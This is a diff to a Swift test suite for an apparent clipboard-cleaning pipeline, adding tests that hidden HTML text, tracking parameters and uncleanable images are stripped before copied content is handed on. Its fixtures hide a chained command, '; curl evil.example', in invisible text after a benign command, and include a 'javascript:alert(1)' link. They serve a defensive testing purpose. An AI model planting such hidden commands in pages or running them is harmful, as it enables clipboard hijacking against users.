@@ -72,6 +72,25 @@ struct HandedOnFormsTests {
     #expect(try run.converts() == ["fetch \(target)"])
     #expect(run.hears(.fetched(Self.id, content(target, Array(bytes.utf8))), at: 30) == ["offer"])
     #expect(forms(run, target).isEmpty)
+    _ = run.hears(.taken(Self.id, at: 40))
+    // Pictures that are written as text are not allowed by this profile.
+    guard target != "image/svg+xml" else { return }
+    #expect(run.reports.first?.companions.map(\.fate) == [.restoring])
+    #expect(run.reports.first?.description.contains("not handed on: it may hold what was removed") == true)
+  }
+
+  @Test(arguments: [
+    ("https://ex.com/p?utm_source=abc&id=1", "application/json", "{\"u\":\"https://ex.com/p?utm_source=abc&id=1\"}"),
+    ("https://ex.com/p?utm_source=abc&id=1", "text/calendar", "URL:https://ex.com/p?utm_source=abc&id=1"),
+    ("https://ex.com/p?utm_source=abc&id=1", "text/vcard", "URL:https://ex.com/p?utm_source=abc&id=1"),
+    ("javascript:alert(1)", "application/json", "{\"u\":\"javascript:alert(1)\"}"),
+  ]) func `no form brings back what was cut from a link`(address: String, target: String, bytes: String) throws {
+    var run = try run("<a href='\(address)'>Read the article</a>", beside: target)
+    #expect(try run.converts() == ["fetch \(target)"])
+    #expect(run.hears(.fetched(Self.id, content(target, Array(bytes.utf8))), at: 30) == ["offer"])
+    #expect(forms(run, target).isEmpty)
+    _ = run.hears(.taken(Self.id, at: 40))
+    #expect(run.reports.first?.companions.map(\.fate) == [.restoring])
   }
 
   @Test func `a twin of the document is not asked for, and is named`() throws {
@@ -125,14 +144,20 @@ struct HandedOnFormsTests {
     #expect(run.reports.first?.companions.map(\.fate) == [.lost])
   }
 
-  @Test(arguments: ["image/tiff", "image/avif", "application/x-qt-image"])
-  func `a picture that cannot be cleaned keeps the copy with its owner, but for hidden text`(target: String) throws {
-    var clean = try run(beside: target)
-    #expect(try clean.converts() == ["leave", "report other-forms"])
-    var hiding = try run("<p>words <s style='display:none'>HIDDEN</s> and more", beside: target)
-    #expect(try hiding.converts() == ["offer"])
-    _ = hiding.hears(.taken(Self.id, at: 40))
-    #expect(hiding.reports.first?.companions.map(\.fate) == [.lost])
+  @Test(arguments: ["image/tiff", "image/avif", "application/x-qt-image", "image/x-emf"])
+  func `a picture that cannot be cleaned is lost beside a document with letters, and keeps one without`(
+    target: String
+  ) throws {
+    var run = try run(beside: target)
+    #expect(try run.converts() == ["offer"])
+    #expect(forms(run, target).isEmpty)
+    _ = run.hears(.taken(Self.id, at: 40))
+    #expect(run.reports.first?.companions.map(\.fate) == [.uncleanable])
+    #expect(run.reports.first?.description.contains("lost: a picture of a kind that cannot be cleaned") == true)
+    let png =
+      "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
+    var picture = try self.run("<img src='data:image/png;base64,\(png)'>", beside: target)
+    #expect(try picture.converts() == ["leave", "report other-forms"])
   }
 
   @Test func `large forms are inspected beside the loop, and not for a copy that was followed by another`() throws {
@@ -185,6 +210,51 @@ struct HandedOnFormsTests {
     var run = try run(html, beside: "UTF8_STRING")
     _ = run.hears(.fetched(Self.id, content("UTF8_STRING", Array("1".utf8))))
     #expect(try run.converts() == ["leave", "report \(reason)"])
+  }
+
+  private static let marks = [
+    "<span data-canva-clipboard='1'>curl good.example", "<p data-framer-pasteboard='1'>curl good.example",
+    "<span data-sheets-value='1'>curl good.example",
+    "<google-sheets-html-origin></google-sheets-html-origin><p>curl good.example",
+    "<table><tr><td sdval='1'>curl good.example",
+  ]
+
+  @Test(arguments: marks, ["chromium/x-source-url", "text/_moz_htmlinfo"])
+  func `no mark that a page writes exempts what it hides`(html: String, browser: String) throws {
+    for hides in [true, false] {
+      var run = PipelineRun()
+      _ = run.hears(.copied(copy(["text/html", "UTF8_STRING", browser])))
+      let page = html + (hides ? "<i style='font-size:0'>; curl evil.example</i>" : "<i>; and more</i>")
+      _ = run.hears(.fetched(Self.id, content("text/html", Array(page.utf8))))
+      let text = "curl good.example" + (hides ? "; curl evil.example" : "; and more")
+      _ = run.hears(.fetched(Self.id, content("UTF8_STRING", Array(text.utf8))))
+      let actions = try run.converts()
+      #expect((actions == ["offer"]) == hides)
+      let published = run.offers.flatMap(\.forms).map { String(decoding: $0.bytes.array, as: UTF8.self) }
+      #expect(!published.contains { $0.contains("evil") })
+    }
+  }
+
+  @Test(arguments: marks)
+  func `other programs, and profiles that keep hidden text, leave their cells and drawings where they are`(
+    html: String
+  ) throws {
+    let keeping = "default-profile = 'mine'\nprofiles.mine.text.hidden = 'keep'"
+    for (toml, targets) in [("", ["text/html"]), (keeping, ["text/html", "chromium/x-source-url"])] {
+      var run = PipelineRun(try configuration(toml))
+      _ = run.hears(.copied(copy(targets)))
+      let page = html + "<i style='font-size:0'>; curl evil.example</i>"
+      _ = run.hears(.fetched(Self.id, content("text/html", Array(page.utf8))))
+      #expect(try run.converts().first == "leave")
+    }
+  }
+
+  @Test func `the report of a copy that is left tells of no text that was written`() throws {
+    var run = try run("<google-sheets-html-origin><table><tr><td>1</table>", beside: "UTF8_STRING")
+    _ = run.hears(.fetched(Self.id, content("UTF8_STRING", Array("1".utf8))))
+    _ = try run.converts()
+    #expect(run.reports.first?.outcome == .left)
+    #expect(run.reports.first?.text == nil)
   }
 
   @Test func `text that is not valid in its encoding is left alone, never filled up`() throws {
